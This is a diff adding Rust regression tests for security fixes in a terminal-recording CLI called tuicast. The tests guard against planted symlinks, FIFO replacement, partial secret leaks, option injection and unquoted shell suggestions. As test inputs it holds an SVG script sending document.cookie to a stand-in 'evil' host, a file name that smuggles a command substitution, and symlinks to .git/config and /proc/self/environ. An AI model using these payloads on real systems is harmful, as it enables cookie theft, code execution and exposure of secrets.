@@ -1123,3 +1123,525 @@ fn a_scenarios_command_and_folder_are_escaped_and_a_setup_error_leaves_no_partia
         assert!(left.is_empty(), "{toml}: {left:?}");
     }
 }
+
+/// The JSON object one `tuicast run` / `tuicast ask` printed.
+fn json_of(out: &crate::util::Run) -> serde_json::Value {
+    serde_json::from_str(out.stdout().trim()).unwrap_or_else(|e| panic!("{e}: {out}"))
+}
+
+/// Issue 41: any file named `tuicast-report.txt` made a folder tuicast's, so a committed
+/// `tuicast-report/` with links `leak -> ../.git/config` and `environ -> /proc/self/environ`
+/// was written into with its links kept (and the Action uploaded it). The marker proves the
+/// folder only when it names that very folder, and a folder holding a link is never written.
+#[test]
+fn a_committed_report_folder_is_no_report_and_a_link_in_one_stops_the_write() {
+    let dir = project_with_goldens();
+    dir.write(".git/config", "[remote \"origin\"]\n\turl = secret\n");
+    // What a pull request commits: the marker's text, even a proof line of its own.
+    dir.write(
+        "tuicast-report/tuicast-report.txt",
+        "This folder is a tuicast report (tuicast test --report, TUICAST_REPORT).\n\
+         tuicast replaces index.html, data/ and files/ here on every run.\nfolder: 2049:1234:0\n",
+    );
+    std::os::unix::fs::symlink("../.git/config", dir.join("tuicast-report/leak")).unwrap();
+    std::os::unix::fs::symlink("/proc/self/environ", dir.join("tuicast-report/environ")).unwrap();
+    let before = dir.files();
+    for env in [false, true] {
+        let run = if env {
+            dir.tuicast(["test"])
+                .env("TUICAST_REPORT", "tuicast-report")
+        } else {
+            dir.tuicast(["test", "--report", "tuicast-report"])
+        };
+        let out = run.run().fails_with(2);
+        assert!(
+            out.stderr()
+                .contains("its tuicast-report.txt was not written in this folder by tuicast"),
+            "{out}"
+        );
+        assert_eq!(
+            dir.files(),
+            before,
+            "nothing written into the planted folder"
+        );
+    }
+    // A folder tuicast made is its own again, run after run; a link put into it stops it.
+    dir.tuicast(["test", "--report", "rep"]).run().success();
+    dir.tuicast(["test", "--report", "rep"]).run().success();
+    let marker = std::fs::read_to_string(dir.join("rep/tuicast-report.txt")).unwrap();
+    assert!(
+        marker.lines().last().unwrap().starts_with("folder: "),
+        "{marker}"
+    );
+    std::os::unix::fs::symlink("../../.git/config", dir.join("rep/data/leak")).unwrap();
+    for run in [
+        dir.tuicast(["test", "--report", "rep"]),
+        dir.tuicast(["test"]).env("TUICAST_REPORT", "rep"),
+    ] {
+        let out = run.run().fails_with(2);
+        assert!(
+            out.stderr().contains("holds a symbolic link, data/leak"),
+            "{out}"
+        );
+    }
+    // A copy of a report (what a download is) names another folder: refused too.
+    std::fs::remove_file(dir.join("rep/data/leak")).unwrap();
+    let copy = std::process::Command::new("cp")
+        .args(["-r", "rep", "copied"])
+        .current_dir(dir.path())
+        .status()
+        .unwrap();
+    assert!(copy.success());
+    let out = dir
+        .tuicast(["test", "--report", "copied"])
+        .run()
+        .fails_with(2);
+    assert!(
+        out.stderr().contains("was not written in this folder"),
+        "{out}"
+    );
+}
+
+/// Issue 41: every `-o FILE` renamed a new file over what was there, so a device, FIFO or
+/// symlink became a regular file (as root, `--format svg -o /dev/null` replaced the machine's
+/// `/dev/null`). A FIFO (and a link to one, as `/dev/stdout` is) is written through and stays
+/// a FIFO; a link to a file is refused and kept. (A FIFO stands in for `/dev/null`: were the
+/// guard to break, this test must not be what replaces the machine's device.)
+#[test]
+fn output_files_write_through_fifos_and_refuse_links_never_replacing_either() {
+    use std::os::unix::fs::FileTypeExt;
+    let dir = project_with_goldens();
+    let fifo = dir.join("out.fifo");
+    let made = std::process::Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap();
+    assert!(made.success());
+    std::os::unix::fs::symlink("out.fifo", dir.join("stdout-link")).unwrap();
+    let read_fifo =
+        |path: std::path::PathBuf| std::thread::spawn(move || std::fs::read(path).unwrap());
+    for (args, target) in [
+        (
+            vec!["replay", "casts/demo.cast", "-o", "out.fifo"],
+            "out.fifo",
+        ),
+        (
+            vec![
+                "replay",
+                "casts/demo.cast",
+                "--format",
+                "json",
+                "-o",
+                "stdout-link",
+            ],
+            "stdout-link",
+        ),
+        (
+            vec!["convert", "casts/demo.cast", "-o", "out.fifo"],
+            "out.fifo",
+        ),
+        (
+            vec![
+                "replay",
+                "casts/demo.cast",
+                "--format",
+                "svg",
+                "-o",
+                "out.fifo",
+            ],
+            "out.fifo",
+        ),
+    ] {
+        let reader = read_fifo(dir.join(target));
+        dir.tuicast(&args).run().success();
+        let got = reader.join().unwrap();
+        assert!(
+            String::from_utf8_lossy(&got).contains("hi"),
+            "{args:?}: {}",
+            String::from_utf8_lossy(&got)
+        );
+        let kind = std::fs::symlink_metadata(&fifo).unwrap().file_type();
+        assert!(kind.is_fifo(), "{args:?}: the FIFO is still a FIFO");
+        assert!(std::fs::symlink_metadata(dir.join("stdout-link"))
+            .unwrap()
+            .file_type()
+            .is_symlink());
+    }
+    // A link to a file: refused, the link and its file kept.
+    dir.write("target.txt", "mine\n");
+    std::os::unix::fs::symlink("target.txt", dir.join("link.txt")).unwrap();
+    let out = dir
+        .tuicast(["replay", "casts/demo.cast", "-o", "link.txt"])
+        .run()
+        .fails_with(2);
+    assert!(
+        out.stderr().contains("is a symbolic link to a file"),
+        "{out}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(dir.join("target.txt")).unwrap(),
+        "mine\n"
+    );
+    assert!(std::fs::symlink_metadata(dir.join("link.txt"))
+        .unwrap()
+        .file_type()
+        .is_symlink());
+    // A recording is renamed into place: a FIFO there is refused, not replaced.
+    dir.write("s.toml", "command = [\"true\"]\nsteps = [{ exit = 0 }]\n");
+    let out = dir
+        .tuicast(["record", "s.toml", "-o", "out.fifo"])
+        .run()
+        .fails_with(2);
+    assert!(
+        out.stderr()
+            .contains("a recording is written to a regular file"),
+        "{out}"
+    );
+    assert!(std::fs::symlink_metadata(&fifo)
+        .unwrap()
+        .file_type()
+        .is_fifo());
+}
+
+/// Issue 41: a committed SVG screenshot with a `<script>` was copied verbatim into the
+/// public report. It goes in only after the check `accept --from` applies.
+#[test]
+fn a_committed_svg_with_a_script_is_not_copied_into_the_report() {
+    let dir = project_with_goldens();
+    dir.write(
+        "tuicast.toml",
+        "[[screenshot]]\ncast = \"casts/demo.cast\"\noutput = \"docs/demo.svg\"\n",
+    );
+    dir.tuicast(["screenshots"]).run().success();
+    let svg = std::fs::read_to_string(dir.join("docs/demo.svg")).unwrap();
+    let rep = dir.join("rep");
+    let files = |rep: &std::path::Path| -> Vec<String> {
+        let mut names: Vec<String> = std::fs::read_dir(rep.join("files"))
+            .map(|d| {
+                d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+                    .collect()
+            })
+            .unwrap_or_default();
+        names.sort();
+        names
+    };
+    // A stale but harmless SVG: the committed image is in the report.
+    dir.write("docs/demo.svg", svg.replacen("hi", "ho", 1));
+    dir.tuicast(["test", "--report", "rep"])
+        .env("CI", "true")
+        .run()
+        .fails_with(1);
+    let names = files(&rep);
+    assert!(
+        names.iter().any(|n| n.ends_with("-expected.svg")),
+        "{names:?}"
+    );
+    // With a script: the new image only.
+    dir.write(
+        "docs/demo.svg",
+        svg.replacen(
+            "</svg>",
+            "<script>fetch('https://evil/'+document.cookie)</script></svg>",
+            1,
+        ),
+    );
+    dir.tuicast(["test", "--report", "rep"])
+        .env("CI", "true")
+        .run()
+        .fails_with(1);
+    let names = files(&rep);
+    assert!(
+        !names.iter().any(|n| n.ends_with("-expected.svg")),
+        "{names:?}"
+    );
+    assert!(
+        names.iter().any(|n| n.ends_with("-actual.svg")),
+        "{names:?}"
+    );
+    for n in &names {
+        let bytes = std::fs::read_to_string(rep.join("files").join(n)).unwrap_or_default();
+        assert!(!bytes.contains("<script"), "{n}");
+    }
+}
+
+/// Issue 41: `run` and `ask` left part of a `--secret` unstarred when the output limit or the
+/// timeout cut inside it (19 of 40 characters in the JSON). A cut stream's tail that could be
+/// the start of a secret is starred whole.
+#[test]
+fn a_secret_cut_by_the_output_limit_or_the_timeout_is_starred_whole() {
+    let value = "0123456789abcdefghijklmnopqrstuvwxyzABCD";
+    assert_eq!(value.len(), 40);
+    let dir = Dir::new();
+    let stars = "*".repeat(19);
+    for (limits, script, ended) in [
+        (
+            ["--max-output", "21"],
+            "printf 'x=%s\\n' \"$TUICAST_SECRET_CUT\"",
+            "max-output",
+        ),
+        (
+            ["--timeout", "1s"],
+            "printf 'x=%.19s' \"$TUICAST_SECRET_CUT\"; exec sleep 30",
+            "timeout",
+        ),
+    ] {
+        for sub in ["run", "ask"] {
+            let mut args = vec![sub];
+            if sub == "ask" {
+                args.extend(["--prompt", "q"]);
+            }
+            args.extend(limits);
+            args.extend(["--secret", "TUICAST_SECRET_CUT", "--", "sh", "-c", script]);
+            let out = dir
+                .tuicast(&args)
+                .env("TUICAST_SECRET_CUT", value)
+                .run()
+                .fails_with(1);
+            let json = json_of(&out);
+            assert_eq!(json["ended_by"], ended, "{out}");
+            let field = if sub == "ask" { "answer" } else { "stdout" };
+            assert_eq!(json[field], format!("x={stars}"), "{sub} {ended}: {out}");
+            assert!(!out.stdout().contains("0123456789"), "{out}");
+        }
+    }
+}
+
+/// Issue 41: a child that calls `setsid` outlived `tuicast run` (only the process group was
+/// killed). The run sweeps what escaped its group as a recording does: by its private HOME.
+#[test]
+fn run_leaves_no_process_that_escaped_its_group_behind() {
+    let dir = Dir::new();
+    let script = "setsid sh -c 'echo $$ > escaped.pid; exec sleep 300' \
+                  </dev/null >/dev/null 2>&1 & \
+                  while [ ! -s escaped.pid ]; do sleep 0.05; done; echo started";
+    let out = dir
+        .tuicast(["run", "--", "sh", "-c", script])
+        .run()
+        .success();
+    assert_eq!(json_of(&out)["stdout"], "started\n", "{out}");
+    let pid: u32 = std::fs::read_to_string(dir.join("escaped.pid"))
+        .unwrap()
+        .trim()
+        .parse()
+        .unwrap();
+    let alive = |pid: u32| {
+        std::fs::read_to_string(format!("/proc/{pid}/stat"))
+            .ok()
+            .and_then(|s| s.rfind(')').map(|i| s[i + 2..].starts_with(|c| c != 'Z')))
+            .unwrap_or(false)
+    };
+    let until = std::time::Instant::now() + std::time::Duration::from_secs(2);
+    while alive(pid) && std::time::Instant::now() < until {
+        std::thread::sleep(std::time::Duration::from_millis(20));
+    }
+    if alive(pid) {
+        let _ = std::process::Command::new("kill")
+            .arg("-9")
+            .arg(pid.to_string())
+            .status();
+        panic!("the setsid child {pid} outlived tuicast run");
+    }
+}
+
+/// Issue 41: `run --stdin FIFO` hung past `--timeout` (opening a FIFO waits for a writer).
+#[test]
+fn run_stdin_from_a_fifo_never_blocks_past_the_timeout() {
+    let dir = Dir::new();
+    let made = std::process::Command::new("mkfifo")
+        .arg(dir.join("in.fifo"))
+        .status()
+        .unwrap();
+    assert!(made.success());
+    let started = std::time::Instant::now();
+    let out = dir
+        .tuicast(["run", "--timeout", "1s", "--stdin", "in.fifo", "--", "cat"])
+        .run()
+        .fails_with(2);
+    assert!(
+        started.elapsed() < std::time::Duration::from_secs(10),
+        "{:?}",
+        started.elapsed()
+    );
+    assert!(
+        json_of(&out)["error"]
+            .as_str()
+            .unwrap()
+            .contains("nothing opened it for writing within the timeout of 1000 ms"),
+        "{out}"
+    );
+    // With a writer, the FIFO is read.
+    let fifo = dir.join("in.fifo");
+    let writer = std::thread::spawn(move || std::fs::write(fifo, "fed\n").unwrap());
+    let out = dir
+        .tuicast(["run", "--timeout", "10s", "--stdin", "in.fifo", "--", "cat"])
+        .run()
+        .success();
+    writer.join().unwrap();
+    assert_eq!(json_of(&out)["stdout"], "fed\n", "{out}");
+}
+
+/// Issue 41: a question starting with `-` became an option of the AI CLI under `ask … {}`
+/// (`--help`, `-o FILE`). It is refused unless an argument `--` before `{}` ends the options.
+#[test]
+fn ask_never_lets_the_question_become_an_option() {
+    let dir = Dir::new();
+    let each = "for a; do echo \"[$a]\"; done";
+    let out = dir
+        .tuicast([
+            "ask",
+            "--prompt=--output=/etc/passwd",
+            "--",
+            "sh",
+            "-c",
+            each,
+            "sh",
+            "{}",
+        ])
+        .run()
+        .fails_with(2);
+    assert!(
+        json_of(&out)["error"]
+            .as_str()
+            .unwrap()
+            .contains("the question starts with '-'"),
+        "{out}"
+    );
+    let out = dir
+        .tuicast([
+            "ask",
+            "--prompt=--version",
+            "--",
+            "sh",
+            "-c",
+            each,
+            "sh",
+            "--",
+            "{}",
+        ])
+        .run()
+        .success();
+    assert_eq!(json_of(&out)["answer"], "[--]\n[--version]", "{out}");
+    // On standard input it is data whatever it starts with.
+    let out = dir
+        .tuicast(["ask", "--prompt=-rf", "--", "cat"])
+        .run()
+        .success();
+    assert_eq!(json_of(&out)["answer"], "-rf", "{out}");
+}
+
+/// Issue 41: the commands tuicast suggests (`record it with …`) were not shell-quoted, so a
+/// hostile file name ran code in the maintainer's shell when pasted. Pasted into bash, the
+/// suggestion is the file's name, one argument, and runs nothing.
+#[test]
+fn suggested_commands_are_quoted_for_the_shell() {
+    let dir = Dir::new();
+    let name = "x$(touch pwned);y";
+    dir.write(
+        format!("casts/{name}.toml"),
+        "command = [\"true\"]\nsteps = [{ snapshot = \"one\" }, { exit = 0 }]\n",
+    );
+    // Exit status 2: a scenario with no cast that this run cannot record is bad input.
+    let out = dir.tuicast(["test", "--replay"]).run().fails_with(2);
+    let text = format!("{}{}", out.stdout(), out.stderr());
+    let suggested = text
+        .split("`tuicast record ")
+        .nth(1)
+        .and_then(|rest| rest.split('`').next())
+        .unwrap_or_else(|| panic!("no suggestion: {text}"));
+    assert_eq!(suggested, format!("'casts/{name}.toml'"), "{text}");
+    let pasted = std::process::Command::new("bash")
+        .arg("-c")
+        .arg(format!("printf '%s\\n' {suggested}"))
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    assert_eq!(
+        String::from_utf8_lossy(&pasted.stdout),
+        format!("casts/{name}.toml\n")
+    );
+    assert!(!dir.join("pwned").exists(), "pasting it ran code");
+}
+
+/// Issue 41: `--message-format junit` printed nothing (not XML) when `tuicast.toml` did not
+/// parse. The document is valid with one error case naming the file, line and column.
+#[test]
+fn junit_output_is_a_document_even_when_the_configuration_is_bad() {
+    let dir = Dir::new();
+    dir.write("tuicast.toml", "casts = \"casts\"\nbad\n");
+    let out = dir
+        .tuicast(["test", "--message-format", "junit"])
+        .run()
+        .fails_with(2);
+    let xml = out.stdout();
+    assert!(xml.starts_with("<?xml"), "{out}");
+    assert!(xml.contains("errors=\"1\""), "{out}");
+    assert!(
+        xml.contains("<error message=\"") && xml.contains("tuicast.toml:2:4:"),
+        "{out}"
+    );
+    assert!(xml.trim_end().ends_with("</testsuites>"), "{out}");
+    assert!(out.stderr().contains("tuicast.toml:2:4"), "{out}");
+}
+
+/// Issue 41: a linked `snapshots/.screenshots` had tuicast make the pending image's folders
+/// outside the project before the write was refused. It is refused before any folder is made.
+#[test]
+fn a_linked_screenshots_folder_gets_no_folder_made_outside() {
+    let dir = project_with_goldens();
+    let outside = Dir::new();
+    dir.write(
+        "tuicast.toml",
+        "[[screenshot]]\ncast = \"casts/demo.cast\"\noutput = \"docs/deep/demo.svg\"\n",
+    );
+    std::os::unix::fs::symlink(outside.path(), dir.join("snapshots/.screenshots")).unwrap();
+    let out = dir.tuicast(["test"]).run();
+    assert_ne!(out.code(), Some(0), "{out}");
+    let made: Vec<_> = std::fs::read_dir(outside.path()).unwrap().collect();
+    assert!(made.is_empty(), "made outside the project: {made:?}\n{out}");
+}
+
+/// Issue 41: what tuicast writes by itself (goldens under `--update`, `.new` files) is at a
+/// path the repository chose: a `.new` file committed as a link to a device or a FIFO is neither
+/// written through (a link to `/dev/tty` would reach the terminal) nor replaced. A FIFO in
+/// the project stands in for the device; a reader opens it late so that a broken guard fails
+/// this test instead of hanging it.
+#[test]
+fn a_pending_file_linked_to_a_fifo_is_neither_written_through_nor_replaced() {
+    use std::os::unix::fs::{FileTypeExt, OpenOptionsExt};
+    let dir = project_with_goldens();
+    let fifo = dir.join("dev.fifo");
+    assert!(std::process::Command::new("mkfifo")
+        .arg(&fifo)
+        .status()
+        .unwrap()
+        .success());
+    // A changed golden, so that the run writes its `.new`: committed as a link.
+    dir.write("snapshots/demo/end.txt", "changed\n");
+    let golden = dir.join("snapshots/demo/end.txt.new");
+    std::os::unix::fs::symlink("../../dev.fifo", &golden).unwrap();
+    let late = fifo.clone();
+    let unblock = std::thread::spawn(move || {
+        std::thread::sleep(std::time::Duration::from_secs(20));
+        let file = std::fs::OpenOptions::new()
+            .read(true)
+            .custom_flags(nix::libc::O_NONBLOCK)
+            .open(late);
+        drop(file);
+    });
+    let started = std::time::Instant::now();
+    let out = dir.tuicast(["test"]).env("TUICAST_UPDATE", "new").run();
+    assert!(
+        started.elapsed() < std::time::Duration::from_secs(15),
+        "it waited for the FIFO: {out}"
+    );
+    assert_ne!(out.code(), Some(0), "{out}");
+    assert!(std::fs::symlink_metadata(&golden)
+        .unwrap()
+        .file_type()
+        .is_symlink());
+    assert!(std::fs::symlink_metadata(&fifo)
+        .unwrap()
+        .file_type()
+        .is_fifo());
+    drop(unblock);
+}
